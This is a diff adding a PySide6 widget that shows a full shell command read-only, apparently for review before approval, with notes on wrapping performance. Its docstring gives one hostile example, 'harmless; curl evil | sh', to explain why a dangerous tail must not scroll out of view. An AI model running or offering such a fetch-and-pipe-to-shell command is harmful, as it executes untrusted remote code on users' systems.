@@ -1,0 +1,92 @@
+"""The read-only, monospace view of one whole command.
+
+Why QPlainTextEdit and not QLabel: a command is shown *whole* — never elided, never cut — and may
+be a megabyte long. QPlainTextEdit lays text out lazily, scrolls, never interprets markup, and
+lets a person select and copy. Measured here (offscreen, 1 MB single line): word-boundary
+wrapping is quadratic on one long token (65 s for 1 MB of ``x``), while ``WrapAnywhere`` is
+linear (0.3 s). So ordinary commands wrap at word boundaries and a command with a very long
+token (a base64 blob, say) wraps anywhere. Wrapping at all matters: with horizontal scrolling
+the tail of ``harmless; curl evil | sh`` could sit off-screen.
+
+The text given to :meth:`CommandView.show_command` must already be revealed (hidden characters
+escaped); this widget only renders it.
+"""
+
+from __future__ import annotations
+
+import re
+
+from PySide6.QtCore import Qt
+from PySide6.QtGui import QFontDatabase, QResizeEvent, QTextOption
+from PySide6.QtWidgets import QFrame, QPlainTextEdit, QWidget
+
+_LONG_TOKEN = re.compile(r"\S{1000}")
+_WORD_WRAP_LIMIT = 100_000  # characters; above this the cheaper anywhere-wrap is used anyway
+_MEASURE_LIMIT = 20_000  # characters; longer commands simply get the maximum height
+MAX_LINES = 10  # visible lines before the view scrolls
+
+
+class CommandView(QPlainTextEdit):
+    """A command, whole, in a fixed-pitch font; tall enough for short ones, scrolling past that."""
+
+    def __init__(self, parent: QWidget | None = None) -> None:
+        super().__init__(parent)
+        self.setObjectName("commandView")
+        self.setReadOnly(True)
+        self.setUndoRedoEnabled(False)
+        self.setTextInteractionFlags(Qt.TextInteractionFlag.TextSelectableByMouse)
+        # Click to focus (for Ctrl+C) but not Tab: keyboard users stay on the rows.
+        self.setFocusPolicy(Qt.FocusPolicy.ClickFocus)
+        self.setFrameShape(QFrame.Shape.StyledPanel)
+        self.setFont(QFontDatabase.systemFont(QFontDatabase.SystemFont.FixedFont))
+        self.setHorizontalScrollBarPolicy(Qt.ScrollBarPolicy.ScrollBarAlwaysOff)
+        self.setLineWrapMode(QPlainTextEdit.LineWrapMode.WidgetWidth)
+        self.setTabStopDistance(4 * self.fontMetrics().horizontalAdvance(" "))
+        self._shown: str | None = None
+
+    def show_command(self, text: str) -> None:
+        """Display ``text`` (already revealed); does nothing if it is what is shown already."""
+        if text == self._shown:
+            return
+        self._shown = text
+        long_token = len(text) > _WORD_WRAP_LIMIT or _LONG_TOKEN.search(text) is not None
+        self.setWordWrapMode(
+            QTextOption.WrapMode.WrapAnywhere
+            if long_token
+            else QTextOption.WrapMode.WrapAtWordBoundaryOrAnywhere
+        )
+        self.setPlainText(text)
+        self._fit_height()
+
+    def shown_text(self) -> str:
+        """The text as displayed (what tests and screen readers read back)."""
+        return self.toPlainText()
+
+    def scroll_page(self, pages: int) -> None:
+        """Scroll by whole pages (PageUp/PageDown while the row is selected)."""
+        bar = self.verticalScrollBar()
+        bar.setValue(bar.value() + pages * bar.pageStep())
+
+    def resizeEvent(self, event: QResizeEvent) -> None:
+        """Re-fit the height: a new width re-wraps the lines."""
+        super().resizeEvent(event)
+        if event.oldSize().width() != event.size().width():
+            self._fit_height()
+
+    def _fit_height(self) -> None:
+        line = self.fontMetrics().lineSpacing()
+        chrome = 2 * self.frameWidth() + 2 * int(self.document().documentMargin()) + 2
+        content: float
+        if len(self._shown or "") > _MEASURE_LIMIT:
+            content = MAX_LINES * line
+        else:
+            layout = self.document().documentLayout()
+            block = self.document().firstBlock()
+            content = 0.0
+            while block.isValid() and content < MAX_LINES * line:
+                content += layout.blockBoundingRect(block).height()
+                block = block.next()
+            content = min(max(content, line), MAX_LINES * line)
+        height = int(content) + chrome
+        if height != self.height() or self.minimumHeight() != height:
+            self.setFixedHeight(height)
